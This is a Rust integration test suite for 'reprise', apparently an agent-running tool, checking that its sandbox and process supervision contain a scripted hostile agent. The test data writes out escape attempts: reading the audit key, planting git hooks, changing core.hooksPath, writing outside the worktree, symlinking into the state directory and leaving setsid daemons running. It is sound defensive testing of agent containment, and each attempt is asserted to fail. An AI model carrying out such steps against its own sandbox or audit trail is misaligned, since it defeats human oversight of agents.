//! Hostile agents and gates against the built binary: what a `command`
//! agent tries (read the audit key, write outside its worktree, plant git
//! hooks, outlive reprise) fails, and the run says so.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::Duration;

use reprise_testkit::{holds_for, wait_until};
use serde_json::Value;

#[path = "containment/walls.rs"]
mod walls;

const BIN: &str = env!("CARGO_BIN_EXE_reprise");

struct Env {
    temp: tempfile::TempDir,
    /// Extra variables for reprise itself.
    vars: Vec<(String, String)>,
}

impl Env {
    fn new() -> Self {
        Self::new_in(&std::env::temp_dir())
    }

    /// An environment whose temp directory (project, home, key) is under `root`.
    fn new_in(root: &Path) -> Self {
        let temp = tempfile::tempdir_in(root).unwrap();
        fs::create_dir(temp.path().join("home")).unwrap();
        fs::create_dir(temp.path().join("project")).unwrap();
        Self {
            temp,
            vars: Vec::new(),
        }
    }

    /// A project that is a git repository with one commit, so tasks get
    /// worktrees.
    fn git() -> Self {
        Self::git_in(&std::env::temp_dir())
    }

    fn git_in(root: &Path) -> Self {
        let env = Self::new_in(root);
        let project = env.project();
        fs::write(project.join("README"), "the main checkout\n").unwrap();
        env.git_each(&[
            &["init", "-q"][..],
            &["add", "README"],
            &["commit", "-qm", "init"],
        ]);
        env
    }

    /// Runs each of `commands` as `git ARGS` in the project, as its user
    /// (a fixed identity for commits); each must succeed.
    fn git_each(&self, commands: &[&[&str]]) {
        for args in commands {
            let status = Command::new("git")
                .args(["-c", "user.name=t", "-c", "user.email=t@t"])
                .args(*args)
                .current_dir(self.project())
                .env("HOME", self.home())
                .stdout(Stdio::null())
                .status()
                .unwrap();
            assert!(status.success(), "git {args:?}");
        }
    }

    /// Commits a `.gitignore` of `patterns`: what a gate writes there as
    /// its observations stays in the worktree (what it writes elsewhere is
    /// removed after it, as a gate's leftovers).
    fn ignore(&self, patterns: &[&str]) {
        fs::write(
            self.project().join(".gitignore"),
            patterns.join("\n") + "\n",
        )
        .unwrap();
        self.git_each(&[&["add", ".gitignore"][..], &["commit", "-qm", "ignore"]]);
    }

    fn project(&self) -> PathBuf {
        self.temp.path().join("project")
    }

    fn home(&self) -> PathBuf {
        self.temp.path().join("home")
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(BIN);
        command
            .args(args)
            .current_dir(self.project())
            .env_clear()
            .env("HOME", self.home())
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .envs(self.vars.iter().map(|(key, value)| (key, value)));
        command
    }

    fn run(&self, args: &[&str]) -> Output {
        self.command(args).output().unwrap()
    }

    fn spawn(&self, args: &[&str]) -> Child {
        self.command(args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    }

    fn plan(&self, text: &str) {
        fs::write(self.project().join("plan.yaml"), text).unwrap();
    }

    fn journal_rows(&self, task: &str) -> Vec<Value> {
        let output = self.run(&["journal", "show", task, "--json"]);
        assert_success(&output);
        json_of(&output)["rows"].as_array().unwrap().clone()
    }
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

fn json_of(output: &Output) -> Value {
    serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|err| panic!("{err}: {}", String::from_utf8_lossy(&output.stdout)))
}

fn assert_success(output: &Output) {
    assert!(
        output.status.success(),
        "exit {:?}\nstdout: {}\nstderr: {}",
        output.status.code(),
        String::from_utf8_lossy(&output.stdout),
        stderr(output)
    );
}

/// Every file under `dir` with its bytes, skipping the named subtrees.
fn snapshot(dir: &Path, skip: &[&str]) -> Vec<(PathBuf, Vec<u8>)> {
    let mut entries = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(next) = stack.pop() {
        for entry in fs::read_dir(&next).unwrap().flatten() {
            let path = entry.path();
            let relative = path.strip_prefix(dir).unwrap().to_path_buf();
            if skip.iter().any(|skipped| relative.starts_with(skipped)) {
                continue;
            }
            if path.is_dir() {
                stack.push(path.clone());
                entries.push((relative, Vec::new()));
            } else {
                entries.push((relative, fs::read(&path).unwrap()));
            }
        }
    }
    entries.sort();
    entries
}

/// Whether `pid` names a live process (a zombie is not live).
fn is_live(pid: &str) -> bool {
    fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|stat| {
        let state = stat
            .rsplit_once(')')
            .and_then(|(_, rest)| rest.trim_start().chars().next());
        !matches!(state, Some('Z' | 'X') | None)
    })
}

/// Live processes whose environment holds `marker`.
fn marked(marker: &str) -> Vec<String> {
    let needle = format!("HOSTILE_MARKER={marker}");
    fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|entry| entry.file_name().to_str().map(str::to_owned))
        .filter(|name| name.bytes().all(|b| b.is_ascii_digit()))
        .filter(|pid| {
            fs::read(format!("/proc/{pid}/environ")).is_ok_and(|environ| {
                environ
                    .split(|&b| b == 0)
                    .any(|var| var == needle.as_bytes())
            })
        })
        .filter(|pid| is_live(pid))
        .collect()
}

/// The worktree `task` ran in (`.reprise/worktrees/<run>/<task>`), of the
/// only run that ran it.
fn worktree_of(env: &Env, task: &str) -> PathBuf {
    let runs = env.project().join(".reprise/worktrees");
    let found: Vec<PathBuf> = fs::read_dir(&runs)
        .unwrap()
        .flatten()
        .map(|run| run.path().join(task))
        .filter(|dir| dir.is_dir())
        .collect();
    assert_eq!(found.len(), 1, "{found:?}");
    found[0].clone()
}

fn wait_for_file(path: &Path) -> String {
    assert!(
        wait_until(Duration::from_secs(60), || fs::read_to_string(path)
            .is_ok_and(|text| !text.trim().is_empty())),
        "{} never appeared",
        path.display()
    );
    fs::read_to_string(path).unwrap().trim().to_owned()
}

/// The agent's attacks, each reported on a line of its stdout.
const ATTACKS: &str = r#"
exec 2>&1
try() { if sh -c "$2" >/dev/null 2>err.txt; then echo "$1: DONE"; else echo "$1: $(cat err.txt)"; fi | tee -a attacks.txt; }
try key-default "cat $HOME/.local/state/reprise/audit.key"
try key-env "cat $KEY_AT"
try ledger "echo x >> ../../ledger.jsonl"
try ledger-up "echo x >> ../../../ledger.jsonl"
try main-checkout "echo x >> $PROJECT/README"
try main-new "echo x > $PROJECT/planted"
try home "echo x > $HOME/x"
try hook "echo 'touch $PROJECT/pwned' > $PROJECT/.git/hooks/post-checkout"
try git-config-file "echo '[core] hooksPath = /tmp' >> $PROJECT/.git/config"
try git-config "git config core.hooksPath /tmp"
env | grep '^REPRISE_' > env.txt
echo mine > mine.txt && git add mine.txt && git -c user.name=a -c user.email=a@a commit -qm mine && git log --format=%s -1 > committed.txt
"#;

fn hostile_plan(key_at: &Path, project: &Path) -> String {
    format!(
        r#"
version: 1
name: hostile
defaults: {{ agent: command, timeout: 2m, max_retries: 0 }}
tasks:
  - id: evil
    prompt: "take over"
    command: ["sh", "-c", {attacks:?}]
"#,
        attacks = format!(
            "KEY_AT='{}'; PROJECT='{}'; {ATTACKS}",
            key_at.display(),
            project.display()
        )
    )
}

/// Runs the hostile agent with the key at the default path, or at a path
/// named by `REPRISE_AUDIT_KEY_FILE`; the project and home under `root`.
fn hostile_run(key_in_env: bool, root: &Path) {
    let mut env = Env::git_in(root);
    let key_at = if key_in_env {
        let path = env.temp.path().join("keys/audit.key");
        env.vars.push((
            "REPRISE_AUDIT_KEY_FILE".into(),
            path.to_string_lossy().into_owned(),
        ));
        path
    } else {
        env.home().join(".local/state/reprise/audit.key")
    };
    assert_success(&env.run(&["init"]));
    assert!(key_at.is_file());
    env.plan(&hostile_plan(&key_at, &env.project()));
    // reprise itself replaces the witness beside the key after each audit
    // append; everything else in $HOME must stay as it was.
    let witness = ".local/state/reprise/witness";
    let home_before = snapshot(&env.home(), &[witness]);
    let project_before = snapshot(&env.project(), &[".reprise", ".git"]);
    let git_before = snapshot(
        &env.project().join(".git"),
        &[
            "objects",
            "refs",
            "logs",
            "worktrees",
            "index",
            "COMMIT_EDITMSG",
            "ORIG_HEAD",
        ],
    );

    let output = env.run(&["run", "plan.yaml", "--json", "--keep-worktrees"]);
    assert_success(&output);

    // The agent saw every attack fail with a permission error.
    let rows = env.journal_rows("evil");
    let finished = rows
        .iter()
        .find(|row| row["kind"] == "attempt.finished")
        .expect("attempt.finished");
    let containment = &finished["body"]["containment"];
    assert_eq!(containment["mode"], "strict");
    assert_eq!(containment["sandboxed"], true);
    let denied: Vec<&str> = containment["denied"]
        .as_array()
        .unwrap()
        .iter()
        .map(|line| line.as_str().unwrap())
        .collect();
    let keys: &[&str] = if key_in_env {
        &["key-env"]
    } else {
        &["key-default"]
    };
    // The key is not there at all: its directory is covered in the agent's
    // own mount namespace.
    let attacked = fs::read_to_string(worktree_of(&env, "evil").join("attacks.txt")).unwrap();
    for attack in keys {
        let line = attacked
            .lines()
            .find(|line| line.starts_with(&format!("{attack}: ")))
            .unwrap_or_else(|| panic!("{attack} not tried: {attacked}"));
        assert!(line.contains("No such file or directory"), "{line}");
    }
    for attack in [
        "ledger",
        "ledger-up",
        "main-checkout",
        "main-new",
        "home",
        "hook",
        "git-config-file",
        "git-config",
    ] {
        let line = denied
            .iter()
            .find(|line| line.starts_with(&format!("{attack}: ")))
            .unwrap_or_else(|| panic!("{attack} not reported as denied: {denied:?}"));
        assert!(line.contains("Permission denied"), "{line}");
    }
    let worktree = worktree_of(&env, "evil");
    // The agent's environment holds only what is meant for it.
    let seen = fs::read_to_string(worktree.join("env.txt")).unwrap();
    assert!(seen.contains("REPRISE_PROMPT="), "{seen}");
    assert!(!seen.contains("REPRISE_AUDIT_KEY_FILE"), "{seen}");
    // git commit in the worktree still works.
    assert_eq!(
        fs::read_to_string(worktree.join("committed.txt")).unwrap(),
        "mine\n"
    );

    assert_eq!(
        snapshot(&env.home(), &[witness]),
        home_before,
        "$HOME changed"
    );
    assert_eq!(
        snapshot(&env.project(), &[".reprise", ".git"]),
        project_before,
        "the main checkout changed"
    );
    assert_eq!(
        snapshot(
            &env.project().join(".git"),
            &[
                "objects",
                "refs",
                "logs",
                "worktrees",
                "index",
                "COMMIT_EDITMSG",
                "ORIG_HEAD"
            ]
        ),
        git_before,
        "the main repository's hooks or config changed"
    );
    // The chains are intact and still verify with the untouched key.
    let verify = env.run(&["journal", "verify", "evil", "--json"]);
    assert_success(&verify);
    assert_success(&env.run(&["audit", "verify"]));
}

#[test]
fn a_hostile_agent_cannot_read_the_default_key_or_write_outside_its_worktree() {
    hostile_run(false, &std::env::temp_dir());
}

#[test]
fn a_hostile_agent_cannot_read_the_key_named_in_the_environment() {
    hostile_run(true, &std::env::temp_dir());
}

/// Landlock holds no rule for a pipe or socket: with the state and the key
/// under `/dev/shm`, the read grants walk into `/dev` and meet `/dev/stdin`.
/// The sandbox leaves such files out, keeps the state and the key hidden, and
/// does not grant `/dev/shm` for writing, since the main checkout is in it.
#[test]
fn under_dev_shm_a_contained_agent_runs_and_still_cannot_read_the_key() {
    hostile_run(false, Path::new("/dev/shm"));
    hostile_run(true, Path::new("/dev/shm"));
}

#[test]
fn the_agent_environment_has_no_reprise_configuration() {
    let mut env = Env::new();
    env.vars.push((
        "REPRISE_AUDIT_KEY_FILE".into(),
        env.temp
            .path()
            .join("keys/audit.key")
            .to_string_lossy()
            .into_owned(),
    ));
    env.vars
        .push(("REPRISE_CLAUDE_BIN".into(), "/nonexistent".into()));
    assert_success(&env.run(&["init"]));
    env.plan(
        r#"
version: 1
name: environ
defaults: { agent: command, sandbox: none, timeout: 1m, max_retries: 0 }
tasks:
  - id: look
    prompt: "look around"
    command: ["sh", "-c", "env | grep '^REPRISE_' | cut -d= -f1 | sort > agent-env.txt; echo \"$TMPDIR\" > agent-tmp.txt; touch \"$TMPDIR/scratch\""]
    gates:
      - { name: look, run: "env | grep '^REPRISE_' | cut -d= -f1 | sort > gate-env.txt" }
"#,
    );
    let output = env.run(&["run", "plan.yaml", "--json"]);
    assert_success(&output);
    let agent = fs::read_to_string(env.project().join("agent-env.txt")).unwrap();
    assert_eq!(
        agent,
        "REPRISE_ATTEMPT\nREPRISE_PROMPT\nREPRISE_RUN_ID\nREPRISE_TASK_ID\n"
    );
    let gate = fs::read_to_string(env.project().join("gate-env.txt")).unwrap();
    assert_eq!(
        gate,
        "REPRISE_ATTEMPT\nREPRISE_GATE\nREPRISE_PROMPT\nREPRISE_RUN_ID\nREPRISE_TASK_ID\n"
    );
    // A TMPDIR of the attempt's own, writable, and gone after it.
    let tmp = fs::read_to_string(env.project().join("agent-tmp.txt")).unwrap();
    let tmp = Path::new(tmp.trim());
    assert!(tmp.starts_with(env.project().join(".reprise")), "{tmp:?}");
    assert!(!tmp.exists(), "{tmp:?} was left");
}

#[test]
fn setsid_daemons_of_an_agent_and_of_a_gate_are_gone_when_the_attempt_ends() {
    let env = Env::new();
    assert_success(&env.run(&["init"]));
    // Each daemon sleeps for a time no other process here does, so the
    // test finds it from outside: the pid it could write is its own PID
    // namespace's.
    let seconds =
        |name: &str| 300_000 + u32::from(name == "gate-daemon") * 1000 + std::process::id() % 1000;
    let daemon = |name: &str| {
        format!(
            "setsid sh -c 'echo started > {name}.pid; exec sleep {}' </dev/null >/dev/null 2>&1 & while [ ! -s {name}.pid ]; do sleep 0.01; done",
            seconds(name)
        )
    };
    env.plan(&format!(
        r#"
version: 1
name: daemons
defaults: {{ agent: command, sandbox: none, timeout: 1m, max_retries: 0 }}
tasks:
  - id: spawner
    prompt: "start a daemon"
    command: ["sh", "-c", {agent:?}]
    gates:
      - {{ name: spawner, run: {gate:?} }}
"#,
        agent = daemon("agent-daemon"),
        gate = daemon("gate-daemon"),
    ));
    let output = env.run(&["run", "plan.yaml", "--json"]);
    assert_success(&output);
    for name in ["agent-daemon", "gate-daemon"] {
        assert!(
            env.project().join(format!("{name}.pid")).exists(),
            "{name} never started"
        );
        let argv = format!("sleep\0{}\0", seconds(name));
        assert!(
            wait_until(Duration::from_secs(5), || processes_with_argv(&argv)
                .is_empty()),
            "the {name} outlived its attempt: {:?}",
            processes_with_argv(&argv)
        );
    }
}

/// The live processes whose command line is `argv` (its arguments each
/// ended by a NUL), as `/proc` lists them here.
fn processes_with_argv(argv: &str) -> Vec<String> {
    fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter(|entry| {
            entry
                .file_name()
                .to_str()
                .is_some_and(|name| name.parse::<u32>().is_ok())
        })
        .filter(|entry| {
            fs::read(entry.path().join("cmdline")).is_ok_and(|line| line == argv.as_bytes())
        })
        .map(|entry| entry.file_name().to_string_lossy().into_owned())
        .collect()
}

/// A plan whose agent runs until killed, with a background child and a
/// `setsid` daemon of its own.
const LONG: &str = r#"
version: 1
name: long
defaults: { agent: command, sandbox: none, timeout: 10m, max_retries: 0, pass_env: [HOSTILE_MARKER] }
tasks:
  - id: long
    prompt: "take forever"
    command: ["sh", "-c", "sleep 600 & setsid sleep 600 </dev/null >/dev/null 2>&1 & echo $$ > agent.pid; wait"]
"#;

#[test]
fn kill_9_of_reprise_takes_its_agents_down_every_time() {
    for round in 0..20 {
        let mut env = Env::new();
        let marker = format!("kill9-{}-{round}", std::process::id());
        env.vars.push(("HOSTILE_MARKER".into(), marker.clone()));
        env.plan(LONG);
        let mut child = env.spawn(&["run", "plan.yaml", "--json"]);
        wait_for_file(&env.project().join("agent.pid"));
        assert!(
            wait_until(Duration::from_secs(10), || marked(&marker).len() >= 3),
            "round {round}: the agents never all started: {:?}",
            marked(&marker)
        );
        child.kill().unwrap();
        child.wait().unwrap();
        assert!(
            wait_until(Duration::from_secs(2), || marked(&marker).is_empty()),
            "round {round}: agents outlived kill -9: {:?}",
            marked(&marker)
        );
    }
}

#[test]
fn without_the_parent_death_signal_the_next_command_reaps_what_a_dead_run_left() {
    let mut env = Env::new();
    let marker = format!("leftover-{}", std::process::id());
    env.vars.push(("HOSTILE_MARKER".into(), marker.clone()));
    env.vars
        .push(("REPRISE_TEST_NO_PARENT_DEATH".into(), "1".into()));
    env.plan(LONG);
    let mut child = env.spawn(&["run", "plan.yaml", "--json"]);
    wait_for_file(&env.project().join("agent.pid"));
    assert!(wait_until(Duration::from_secs(10), || marked(&marker)
        .len()
        >= 3));
    child.kill().unwrap();
    child.wait().unwrap();
    // Nothing takes them down: the test build really has no death signal.
    assert!(
        holds_for(Duration::from_millis(500), || marked(&marker).len() >= 3),
        "the agents died without the parent-death signal: {:?}",
        marked(&marker)
    );
    let status = env.run(&["status", "--json"]);
    assert_success(&status);
    assert!(
        wait_until(Duration::from_secs(2), || marked(&marker).is_empty()),
        "reprise status left them running: {:?}",
        marked(&marker)
    );
    assert_eq!(
        fs::read_dir(env.project().join(".reprise/supervised"))
            .unwrap()
            .count(),
        0
    );
}

fn stop_with(signal: &str, code: i32) {
    let mut env = Env::new();
    let marker = format!("stop-{signal}-{}", std::process::id());
    env.vars.push(("HOSTILE_MARKER".into(), marker.clone()));
    env.plan(LONG);
    let child = env.spawn(&["run", "plan.yaml", "--json"]);
    wait_for_file(&env.project().join("agent.pid"));
    assert!(wait_until(Duration::from_secs(10), || marked(&marker)
        .len()
        >= 3));
    let status = Command::new("kill")
        .args([&format!("-{signal}"), &child.id().to_string()])
        .status()
        .unwrap();
    assert!(status.success());
    let output = child.wait_with_output().unwrap();
    assert_eq!(
        output.status.code(),
        Some(code),
        "stderr: {}",
        stderr(&output)
    );
    // reprise waited for its agents: none is left when it exits.
    assert_eq!(marked(&marker), Vec::<String>::new());
    let report = json_of(&output);
    assert_eq!(report["tasks"][0]["state"], "cancelled");
    let verify = env.run(&["journal", "verify", "long", "--json"]);
    assert_success(&verify);
    assert_eq!(json_of(&verify)["identity"], "verified");
    let rows = env.journal_rows("long");
    assert_eq!(rows.last().unwrap()["kind"], "task.finished");
}

#[test]
fn sigterm_stops_a_run_like_ctrl_c_and_exits_143() {
    stop_with("TERM", 143);
}

#[test]
fn sighup_stops_a_run_like_ctrl_c_and_exits_129() {
    stop_with("HUP", 129);
}

#[test]
fn sigint_exits_130() {
    stop_with("INT", 130);
}

#[test]
fn without_landlock_a_run_warns_once_and_required_refuses_before_writing() {
    let mut env = Env::new();
    env.vars
        .push(("REPRISE_TEST_NO_LANDLOCK".into(), "1".into()));
    env.plan(
        r#"
version: 1
name: uncontained
defaults: { agent: command, sandbox: none, timeout: 1m, max_retries: 0 }
tasks:
  - id: one
    prompt: "p"
    command: ["true"]
  - id: two
    prompt: "p"
    command: ["true"]
"#,
    );
    let output = env.run(&["run", "plan.yaml"]);
    assert_success(&output);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(
        stdout
            .matches("warning: this kernel has no Landlock")
            .count(),
        1,
        "{stdout}"
    );

    let fresh = {
        let mut fresh = Env::new();
        fresh.vars = env.vars.clone();
        fresh
    };
    fresh.plan(
        r#"
version: 1
name: must-contain
defaults: { agent: command, sandbox: none, timeout: 1m, containment: required }
tasks:
  - id: one
    prompt: "p"
    command: ["true"]
"#,
    );
    let before = snapshot(fresh.temp.path(), &[]);
    let output = fresh.run(&["run", "plan.yaml"]);
    assert_eq!(output.status.code(), Some(2), "stderr: {}", stderr(&output));
    let message = stderr(&output);
    assert_eq!(message.lines().count(), 1, "{message}");
    assert!(
        message.starts_with(
            "error: task one has containment: required but this kernel has no Landlock"
        ),
        "{message}"
    );
    assert_eq!(snapshot(fresh.temp.path(), &[]), before);
}

#[test]
fn a_contained_gate_that_writes_outside_is_told_about_allowed_paths() {
    let env = Env::git();
    let cache = env.temp.path().join("cache");
    fs::create_dir(&cache).unwrap();
    let plan = |allowed: &str| {
        format!(
            r#"
version: 1
name: gate-cache
defaults: {{ agent: command, timeout: 1m, max_retries: 1 }}
tasks:
  - id: cached
    prompt: "p"
    command: ["sh", "-c", "printf '%s' \"$REPRISE_PROMPT\""]
    {allowed}
    gates:
      - {{ name: test, run: "echo hit > {cache}/entry" }}
"#,
            cache = cache.display()
        )
    };
    env.plan(&plan(""));
    let output = env.run(&["run", "plan.yaml", "--json"]);
    assert_eq!(output.status.code(), Some(1));
    let gate = &json_of(&output)["tasks"][0]["attempts"][0]["gates"][0];
    assert_eq!(gate["passed"], false);
    // The gate's output, as the retry prompt quotes it: the agent replies
    // with its prompt, and the last judged reply is kept.
    let run_id = json_of(&output)["run_id"].as_str().unwrap().to_owned();
    let text = fs::read_to_string(
        env.project()
            .join(format!(".reprise/runs/{run_id}/failed/cached.out")),
    )
    .unwrap();
    assert!(text.contains("Permission denied"), "{text}");
    assert!(text.contains("allowed_paths"), "{text}");
    assert!(!cache.join("entry").exists());

    env.plan(&plan(&format!("allowed_paths: [{}]", cache.display())));
    assert_success(&env.run(&["run", "plan.yaml", "--json"]));
    assert_eq!(fs::read_to_string(cache.join("entry")).unwrap(), "hit\n");
}

#[test]
fn containment_off_keeps_supervision_but_not_the_sandbox() {
    let env = Env::git();
    assert_success(&env.run(&["init"]));
    let daemon_pid = env.temp.path().join("daemon.pid");
    env.plan(&format!(
        r#"
version: 1
name: uncontained
defaults: {{ agent: command, timeout: 1m, max_retries: 0, containment: off }}
tasks:
  - id: free
    prompt: "p"
    command: ["sh", "-c", "echo x > $HOME/x; setsid sh -c 'echo $$ > {pid}; exec sleep 300' </dev/null >/dev/null 2>&1 & while [ ! -s {pid} ]; do sleep 0.01; done"]
"#,
        pid = daemon_pid.display()
    ));
    assert_success(&env.run(&["run", "plan.yaml", "--json"]));
    // Written: nothing confined it.
    assert_eq!(fs::read_to_string(env.home().join("x")).unwrap(), "x\n");
    let finished = env
        .journal_rows("free")
        .into_iter()
        .find(|row| row["kind"] == "attempt.finished")
        .unwrap();
    assert_eq!(finished["body"]["containment"]["mode"], "off");
    assert_eq!(finished["body"]["containment"]["sandboxed"], false);
    // Still supervised: its daemon died with the attempt.
    let pid = fs::read_to_string(&daemon_pid).unwrap();
    assert!(wait_until(Duration::from_secs(5), || !is_live(pid.trim())));
}

#[test]
fn denials_the_agent_printed_on_stderr_are_recorded() {
    let env = Env::git();
    assert_success(&env.run(&["init"]));
    // The reply (stdout) says nothing of the failed write; only stderr does,
    // as a CLI's own failed writes (its session store) would.
    env.plan(
        r#"
version: 1
name: quiet
defaults: { agent: command, timeout: 1m, max_retries: 0 }
tasks:
  - id: quiet
    prompt: "p"
    command: ["sh", "-c", "echo 'all done'; echo x > \"$HOME/stray\" || true"]
"#,
    );
    assert_success(&env.run(&["run", "plan.yaml", "--json"]));
    assert!(!env.home().join("stray").exists());
    let finished = env
        .journal_rows("quiet")
        .into_iter()
        .find(|row| row["kind"] == "attempt.finished")
        .unwrap();
    let containment = &finished["body"]["containment"];
    assert_eq!(containment["sandboxed"], true, "{containment}");
    let denied = containment["denied"].as_array().unwrap();
    let stray = env.home().join("stray");
    assert!(
        denied.iter().any(|line| {
            let line = line.as_str().unwrap();
            line.contains(&*stray.to_string_lossy()) && line.contains("Permission denied")
        }),
        "the stderr line is recorded: {containment}"
    );
}

/// Runs `args` and checks the refusal: exit 2, one line that names the
/// plan, the task and entry, and `says`; nothing written anywhere in the
/// test's temporary tree.
fn assert_refused(env: &Env, args: &[&str], located: &str, says: &str) {
    let before = snapshot(env.temp.path(), &[]);
    let output = env.run(args);
    let message = stderr(&output);
    assert_eq!(output.status.code(), Some(2), "{args:?}: {message}");
    assert_eq!(message.lines().count(), 1, "{message}");
    assert!(
        message.contains(&format!("plan.yaml: {located}: ")),
        "{args:?}: {message}"
    );
    assert!(message.contains(says), "{args:?}: {message}");
    assert_eq!(
        snapshot(env.temp.path(), &[]),
        before,
        "{args:?} wrote something"
    );
}

#[test]
fn allowed_paths_that_reach_the_state_or_the_key_are_refused_before_anything_runs() {
    let env = Env::git();
    assert_success(&env.run(&["init"]));
    let state = env.project().join(".reprise");
    let key_dir = env.home().join(".local/state/reprise");
    assert!(key_dir.join("audit.key").is_file());
    let link = env.temp.path().join("state-link");
    std::os::unix::fs::symlink(&state, &link).unwrap();
    let outside = env.temp.path().join("cache");
    fs::create_dir(&outside).unwrap();
    let cases: Vec<(String, &str)> = vec![
        ("/".to_owned(), "holds the state directory"),
        (state.display().to_string(), "is the state directory"),
        (
            state.join("ledger.jsonl").display().to_string(),
            "lies inside the state directory",
        ),
        (
            format!("{}/", state.join("runs").display()),
            "lies inside the state directory",
        ),
        (
            env.project().display().to_string(),
            "holds the state directory",
        ),
        (
            key_dir.display().to_string(),
            "is the audit key's directory",
        ),
        (
            key_dir.join("witness").display().to_string(),
            "lies inside the audit key's directory",
        ),
        (
            env.home().display().to_string(),
            "holds the audit key's directory",
        ),
        (link.display().to_string(), "is the state directory"),
        (
            link.join("audit").display().to_string(),
            "lies inside the state directory",
        ),
        (
            format!("{}/../project/.reprise", outside.display()),
            "is the state directory",
        ),
    ];
    for (entry, says) in cases {
        env.plan(&format!(
            r#"
version: 1
name: reach
defaults: {{ agent: command, timeout: 1m, max_retries: 0 }}
tasks:
  - id: fine
    prompt: "p"
    command: ["true"]
    allowed_paths: ["src/**", {outside:?}]
  - id: reach
    prompt: "p"
    command: ["sh", "-c", "cat {key_dir}/audit.key > stolen; echo x >> {state}/ledger.jsonl"]
    allowed_paths: ["src/**", {entry:?}]
"#,
            outside = outside.display().to_string(),
            key_dir = key_dir.display(),
            state = state.display(),
        ));
        for args in [&["run", "plan.yaml", "--check"][..], &["run", "plan.yaml"]] {
            assert_refused(&env, args, "tasks[1].allowed_paths[1]", says);
        }
    }
    // The same refusal when no state directory exists yet: the one the run
    // would create is what is compared.
    let fresh = Env::new();
    fresh.plan(
        r#"
version: 1
name: reach
defaults: { agent: command, sandbox: none, timeout: 1m }
tasks:
  - { id: root, prompt: p, command: ["true"], allowed_paths: [/] }
"#,
    );
    assert_refused(
        &fresh,
        &["run", "plan.yaml"],
        "tasks[0].allowed_paths[0]",
        "holds the state directory",
    );
    assert!(!fresh.project().join(".reprise").exists());
    // A path beside them is still granted.
    env.plan(&format!(
        r#"
version: 1
name: beside
defaults: {{ agent: command, timeout: 1m, max_retries: 0 }}
tasks:
  - id: beside
    prompt: "p"
    command: ["sh", "-c", "echo ok > {outside}/written"]
    allowed_paths: [{outside:?}]
"#,
        outside = outside.display().to_string(),
    ));
    assert_success(&env.run(&["run", "plan.yaml"]));
    assert_eq!(fs::read_to_string(outside.join("written")).unwrap(), "ok\n");
}

/// An earlier task allowed to write a directory plants a symlink there into
/// the state directory; a later task whose allowed path is that link (it
/// did not exist when the plan was checked) must not be granted what it
/// leads to.
#[test]
fn a_symlink_planted_after_the_check_does_not_open_the_state_directory() {
    let env = Env::git();
    assert_success(&env.run(&["init"]));
    let state = env.project().join(".reprise");
    let shared = env.temp.path().join("shared");
    fs::create_dir(&shared).unwrap();
    env.plan(&format!(
        r#"
version: 1
name: plant
defaults: {{ agent: command, timeout: 1m, max_retries: 0 }}
tasks:
  - id: plant
    prompt: "p"
    command: ["sh", "-c", "ln -s {state} {shared}/link"]
    allowed_paths: [{shared:?}]
  - id: use
    prompt: "p"
    depends_on: [plant]
    command: ["sh", "-c", "echo pwned > {shared}/link/pwned; echo x >> {shared}/link/ledger.jsonl"]
    allowed_paths: ["{shared}/link"]
"#,
        state = state.display(),
        shared = shared.display(),
    ));
    let ledger_before = fs::read(state.join("ledger.jsonl")).unwrap_or_default();
    let output = env.run(&["run", "plan.yaml", "--json"]);
    assert!(
        fs::symlink_metadata(shared.join("link")).is_ok(),
        "the first agent planted its link: {}",
        stderr(&output)
    );
    assert!(
        !state.join("pwned").exists(),
        "the agent wrote into .reprise"
    );
    let ledger = fs::read(state.join("ledger.jsonl")).unwrap();
    assert!(ledger.starts_with(&ledger_before));
    assert!(
        !String::from_utf8_lossy(&ledger)
            .lines()
            .any(|line| line == "x"),
        "the agent wrote the ledger"
    );
    let run = json_of(&output);
    assert_eq!(run["tasks"][1]["task_id"], "use", "{run}");
    assert_eq!(run["tasks"][1]["state"], "failed", "{run}");
    // The sandbox refused to start the agent, and said why.
    let run_id = run["run_id"].as_str().unwrap();
    let said = fs::read_to_string(state.join(format!("runs/{run_id}/logs/use/1/agent.stderr")))
        .unwrap_or_default();
    assert!(
        said.contains("leads to") && said.contains("allowed_paths"),
        "{said}"
    );
    assert_success(&env.run(&["audit", "verify"]));
    assert_success(&env.run(&["journal", "verify", "plant"]));
}

#[test]
fn dev_shm_is_closed_to_agents_and_gates_unless_the_plan_grants_it() {
    let env = Env::new();
    assert_success(&env.run(&["init"]));
    let name = format!("reprise-shm-test-{}", std::process::id());
    let shm = Path::new("/dev/shm");
    let files = |task: &str| {
        [
            shm.join(format!("{name}-{task}-agent")),
            shm.join(format!("{name}-{task}-gate")),
        ]
    };
    let plan = format!(
        r#"
version: 1
name: shm
defaults: {{ agent: command, sandbox: none, timeout: 1m, max_retries: 0 }}
tasks:
  - id: closed
    prompt: "p"
    command: ["sh", "-c", "echo x > /dev/shm/{name}-closed-agent || true"]
    gates:
      - {{ name: g, run: "echo x > /dev/shm/{name}-closed-gate || true" }}
  - id: granted
    prompt: "p"
    writable_shm: true
    command: ["sh", "-c", "echo x > /dev/shm/{name}-granted-agent"]
    gates:
      - {{ name: g, run: "echo x > /dev/shm/{name}-granted-gate" }}
"#
    );
    env.plan(&plan);
    let output = env.run(&["run", "plan.yaml", "--json"]);
    let closed: Vec<bool> = files("closed").iter().map(|file| file.exists()).collect();
    let granted: Vec<bool> = files("granted").iter().map(|file| file.exists()).collect();
    for file in files("closed").iter().chain(&files("granted")) {
        let _ = fs::remove_file(file);
    }
    assert_success(&output);
    assert_eq!(closed, [false, false], "an agent or gate wrote /dev/shm");
    assert_eq!(granted, [true, true], "writable_shm: true did not grant it");
}

#[test]
fn agents_and_gates_get_an_allow_list_of_the_environment() {
    let mut env = Env::new();
    for (name, value) in [
        ("MY_FAKE_SECRET", "hunter2"),
        ("PASSED_ON", "to-both"),
        ("AGENT_ONLY", "to-the-agent"),
        ("LC_TIME", "C"),
    ] {
        env.vars.push((name.into(), value.into()));
